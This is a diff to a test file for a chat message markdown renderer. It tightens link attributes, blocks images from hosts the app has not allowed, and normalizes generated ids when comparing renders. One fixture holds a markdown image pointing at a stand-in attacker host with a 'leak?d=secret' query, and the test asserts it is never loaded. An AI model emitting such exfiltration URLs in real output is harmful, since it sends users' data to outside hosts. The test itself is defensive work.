@@ -82,7 +82,8 @@ describe('MessageText', () => {
     const links = screen.getAllByRole('link');
     expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com/a', 'mailto:a@b.c']);
     for (const link of links) {
-      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+      expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
       expect(link.getAttribute('target')).toBe('_blank');
     }
     expect(container.innerHTML).not.toContain('javascript:');
@@ -94,12 +95,15 @@ describe('MessageText', () => {
     expect(container.querySelector('a')).toBeNull();
   });
 
-  it('renders images only from https addresses', () => {
-    const { container } = render(<MessageText text={'![ok](https://example.com/a.png) ![no](http://example.com/b.png)'} />);
+  it('loads no image from a host the app did not allow: a placeholder shows its alt text and host', () => {
+    const { container } = render(<MessageText text={'![chart](https://attacker.example/leak?d=secret) ![dot](data:image/png;base64,AAAA)'} />);
     const images = container.querySelectorAll('img');
     expect(images).toHaveLength(1);
-    expect(images[0]?.getAttribute('src')).toBe('https://example.com/a.png');
-    expect(container.textContent).toContain('no');
+    expect(images[0]?.getAttribute('src')).toBe('data:image/png;base64,AAAA');
+    const placeholder = container.querySelector('.platos-image-placeholder');
+    expect(placeholder?.getAttribute('data-host')).toBe('attacker.example');
+    expect(placeholder?.textContent).toContain('chart');
+    expect(container.innerHTML).not.toContain('attacker.example/leak');
   });
 
   it('forwards className and other props to its element', () => {
@@ -142,10 +146,12 @@ describe('MessageText', () => {
 
     rerender(<MessageText text={text} streaming={false} />);
     expect(container.firstElementChild?.getAttribute('data-state')).toBe('complete');
-    const streamed = container.innerHTML;
+    // Ids from useId (a link's host hint) count renders, so they differ between the two trees.
+    const withoutIds = (html: string) => html.replace(/(id|aria-describedby)="[^"]*"/g, '$1=""');
+    const streamed = withoutIds(container.innerHTML);
     cleanup();
     const { container: whole } = render(<MessageText text={longAnswer} />);
-    expect(streamed).toBe(whole.innerHTML);
+    expect(streamed).toBe(withoutIds(whole.innerHTML));
   }, 120_000);
 
   it('shows unfinished syntax as it will look: no raw markers, half links as text, tables once the separator row is there', () => {
